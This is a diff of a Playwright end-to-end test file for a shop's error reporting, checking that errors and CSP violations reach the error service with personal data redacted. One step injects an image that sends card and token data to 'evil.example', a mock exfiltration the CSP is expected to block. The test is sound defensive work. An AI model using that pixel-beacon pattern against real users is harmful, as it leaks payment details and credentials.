@@ -2,7 +2,7 @@ import { readdirSync, readFileSync } from 'node:fs'
 import type { Page } from '@playwright/test'
 import { storePath } from '../drivers/stack/shop-brand.ts'
 import { expect, test } from '../drivers/stack/shop.ts'
-import { mainNavigation, visit } from '../drivers/screens/visit.ts'
+import { mainNavigation, navigate, visit } from '../drivers/screens/visit.ts'
 
 type ReceivedEvent = {
   readonly message?: string
@@ -48,7 +48,7 @@ const fail = (page: Page, kind: 'throw' | 'reject', message: string, isText = fa
   )
 }
 
-test('[ERR-23] [CFG-08] a broken component, a rejected promise, a failed script and a CSP violation arrive without personal data', async ({
+test('[ERR-23] [ERR-24] [CFG-08] a broken component, a rejected promise, a failed script and a CSP violation arrive without personal data; ignored errors do not', async ({
   page,
   stack,
   troubles,
@@ -60,83 +60,68 @@ test('[ERR-23] [CFG-08] a broken component, a rejected promise, a failed script 
   )
   const { find, events, forget } = service(stack.simulators['error-reporting'])
   await forget()
-
-  await visit(page, '/')
-  await page.route(/\/api\/v1\/products\b/, (route) => route.fulfill({ json: [null] }))
-  await mainNavigation(page).getByRole('link', { name: 'Menu' }).click()
-  const broken = await find(/^\n?TypeError/)
-  expect(broken).toMatchObject({ release: '2.0.0', environment: 'production', tags: { app: 'shop', kind: 'render' } })
-  // The server adds the ids of the source maps, which it does not serve.
-  expect(broken.debug_meta?.images.length).toBeGreaterThan(0)
-  await page.unrouteAll()
-
-  await visit(page, '/stores')
-  await fail(page, 'reject', `the basket of ${secrets} is unknown`)
-  expect(await find(/the basket of/)).toMatchObject({
-    tags: { app: 'shop', kind: 'rejection', route: '/stores/{-$store}' },
-    exception: {
-      values: [{ type: 'Error', value: 'the basket of [email] [phone], [card], Bearer [token] is unknown' }],
-    },
+  await test.step('a broken component', async () => {
+    await visit(page, '/')
+    await page.route(/\/api\/v1\/products\b/, (route) => route.fulfill({ json: [null] }))
+    await mainNavigation(page).getByRole('link', { name: 'Menu' }).click()
+    const broken = await find(/^\n?TypeError/)
+    expect(broken).toMatchObject({ release: '2.0.0', environment: 'production', tags: { app: 'shop', kind: 'render' } })
+    // The server adds the ids of the source maps, which it does not serve.
+    expect(broken.debug_meta?.images.length).toBeGreaterThan(0)
+    await page.unrouteAll()
   })
-  await fail(page, 'throw', `thrown with ${secrets}`)
-  expect((await find(/thrown with/)).tags).toMatchObject({ kind: 'error' })
-
-  await page.route('**/recaptcha/**', (route) => route.abort())
-  await visit(page, '/preferences/sms')
-  await page.getByRole('textbox', { name: 'Mobile' }).fill('0491 570 203')
-  await page.getByRole('button', { name: /^Stop/ }).click()
-  expect((await find(/a script did not load/)).message).toMatch(
-    /: http:\/\/localhost:\d+\/recaptcha\/[\w./]+\?\[removed\]$/,
-  )
-  await page.unrouteAll()
-
-  await page.evaluate((text) => {
-    const picture = new Image()
-    picture.src = `https://evil.example/pixel.png?card=${encodeURIComponent(text)}`
-    document.body.append(picture)
-  }, secrets)
-  expect(await find(/img-src blocked https:\/\/evil\.example/)).toMatchObject({
-    tags: { app: 'api', kind: 'csp', directive: 'img-src', blocked: 'https://evil.example' },
+  await test.step('rejected and thrown errors, and ignored ones', async () => {
+    await navigate(page, '/stores')
+    await expect(page.getByRole('heading', { level: 1, name: 'Stores' })).toBeVisible()
+    await fail(page, 'reject', 'Failed to fetch')
+    await fail(page, 'throw', 'thrown as text', true)
+    await fail(page, 'reject', `the basket of ${secrets} is unknown`)
+    expect(await find(/the basket of/)).toMatchObject({
+      tags: { app: 'shop', kind: 'rejection', route: '/stores/{-$store}' },
+      exception: {
+        values: [{ type: 'Error', value: 'the basket of [email] [phone], [card], Bearer [token] is unknown' }],
+      },
+    })
+    await fail(page, 'throw', `thrown with ${secrets}`)
+    expect((await find(/thrown with/)).tags).toMatchObject({ kind: 'error' })
+    // Reports are sent in order, so the ignored ones would have arrived before.
+    expect(JSON.stringify(await events())).not.toMatch(/Failed to fetch|thrown as text/)
   })
-  expect((await find(/a picture did not load/)).message).toBe(
-    'a picture did not load: https://evil.example/pixel.png?[removed]',
-  )
+  await test.step('a failed script', async () => {
+    await page.route('**/recaptcha/**', (route) => route.abort())
+    await navigate(page, '/preferences/sms')
+    await page.getByRole('textbox', { name: 'Mobile' }).fill('0491 570 203')
+    await page.getByRole('button', { name: /^Stop/ }).click()
+    expect((await find(/a script did not load/)).message).toMatch(
+      /: http:\/\/localhost:\d+\/recaptcha\/[\w./]+\?\[removed\]$/,
+    )
+    await page.unrouteAll()
+  })
+  await test.step('a CSP violation', async () => {
+    await page.evaluate((text) => {
+      const picture = new Image()
+      picture.src = `https://evil.example/pixel.png?card=${encodeURIComponent(text)}`
+      document.body.append(picture)
+    }, secrets)
+    expect(await find(/img-src blocked https:\/\/evil\.example/)).toMatchObject({
+      tags: { app: 'api', kind: 'csp', directive: 'img-src', blocked: 'https://evil.example' },
+    })
+    expect((await find(/a picture did not load/)).message).toBe(
+      'a picture did not load: https://evil.example/pixel.png?[removed]',
+    )
+  })
   expect(JSON.stringify(await events())).not.toMatch(leaks)
 })
 
-test('[ERR-24] ignored errors do not arrive', async ({ page, stack, troubles }) => {
-  troubles.expect(/^console/, /^page error/)
-  const { find, events, forget } = service(stack.simulators['error-reporting'])
-  await forget()
-  await visit(page, '/stores')
-  for (const message of [
-    'Script error.',
-    'Network Error',
-    'Failed to fetch',
-    'Timeout',
-    'Load failed',
-    'Request failed with status code 404',
-    'gtag is not defined',
-    'Unable to preload CSS for /assets/a.css',
-    'Extension context invalidated.',
-  ])
-    await fail(page, 'reject', message)
-  await fail(page, 'throw', 'thrown as text', true)
-  await fail(page, 'reject', 'rejected as text', true)
-  // Reports are sent in order, so this one is the first to arrive.
-  await fail(page, 'reject', 'the last failure')
-  await find(/the last failure/)
-  expect((await events()).map(({ exception }) => exception?.values[0]?.value)).toEqual(['the last failure'])
-})
-
-test('[SES-04] [ERR-23] a save that fails with 500 is reported; the store’s refusal and an expired basket are not', async ({
+test('[SES-04] [ERR-23] a save that fails is reported, the store’s refusal is not; the shop is whole while the error service is down', async ({
   page,
   store,
   stack,
   troubles,
 }) => {
-  troubles.expect(/^console/, /^50\d from/)
-  const { find, events, forget } = service(stack.simulators['error-reporting'])
+  troubles.expect(/^console/, /^50\d from/, /^page error/)
+  const url = stack.simulators['error-reporting']
+  const { find, events, forget } = service(url)
   await forget()
   await visit(page, storePath(store.slug))
   const refuse = (status: number, code: string) =>
@@ -144,34 +129,32 @@ test('[SES-04] [ERR-23] a save that fails with 500 is reported; the store’s re
       route.fulfill({ status, json: { code, message: 'No', type: 'error', data: {} } }),
     )
   const order = page.getByRole('button', { name: 'Order pickup from here' })
-  await refuse(406, 'ServiceUnavailable')
-  await order.click()
-  await expect(page.getByText(/Online ordering is currently unavailable at this store/).first()).toBeVisible()
-  await page.unrouteAll()
-  await refuse(429, 'TooManyRequests')
-  await order.click()
-  await expect(page.getByText("We couldn't save your order details. Please try again.").first()).toBeVisible()
-  const report = await find(/answered 429/)
-  expect(report).toMatchObject({
-    tags: { kind: 'handled', status: '429' },
-    extra: { what: 'order details were not saved' },
+  await test.step('the refusal of the store, and a failed save', async () => {
+    await refuse(406, 'ServiceUnavailable')
+    await order.click()
+    await expect(page.getByText(/Online ordering is currently unavailable at this store/).first()).toBeVisible()
+    await page.unrouteAll()
+    await refuse(429, 'TooManyRequests')
+    await order.click()
+    await expect(page.getByText("We couldn't save your order details. Please try again.").first()).toBeVisible()
+    const report = await find(/answered 429/)
+    expect(report).toMatchObject({
+      tags: { kind: 'handled', status: '429' },
+      extra: { what: 'order details were not saved' },
+    })
+    expect((await events()).filter(({ tags }) => tags['status'] === '406')).toEqual([])
   })
-  expect((await events()).filter(({ tags }) => tags['status'] === '406')).toEqual([])
-})
-
-test('[ERR-23] the shop is whole while the error service is down', async ({ page, stack, troubles }) => {
-  troubles.expect(/^console error: (Error|Uncaught)/, /^page error/)
-  const url = stack.simulators['error-reporting']
-  const headers = { 'content-type': 'application/json' }
-  const body = JSON.stringify({ outcome: 'unavailable', times: 1_000 })
-  await fetch(`${url}/control`, { method: 'POST', headers, body })
-  await visit(page, '/')
-  const tunnelled = page.waitForResponse(/\/api\/v1\/error-reports$/)
-  await fail(page, 'reject', 'odd while the service is down')
-  expect((await tunnelled).status()).toBe(204)
-  await mainNavigation(page).getByRole('link', { name: 'Menu' }).click()
-  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
-  await fetch(`${url}/control`, { method: 'DELETE' })
+  await test.step('the error service is down', async () => {
+    const headers = { 'content-type': 'application/json' }
+    const body = JSON.stringify({ outcome: 'unavailable', times: 1_000 })
+    await fetch(`${url}/control`, { method: 'POST', headers, body })
+    const tunnelled = page.waitForResponse(/\/api\/v1\/error-reports$/)
+    await fail(page, 'reject', 'odd while the service is down')
+    expect((await tunnelled).status()).toBe(204)
+    await mainNavigation(page).getByRole('link', { name: 'Menu' }).click()
+    await expect(page.getByRole('heading', { level: 1, name: 'Pizza' })).toBeVisible()
+    await forget()
+  })
 })
 
 test('[ERR-23] source maps are not served, and no served file names one', async ({ page }) => {
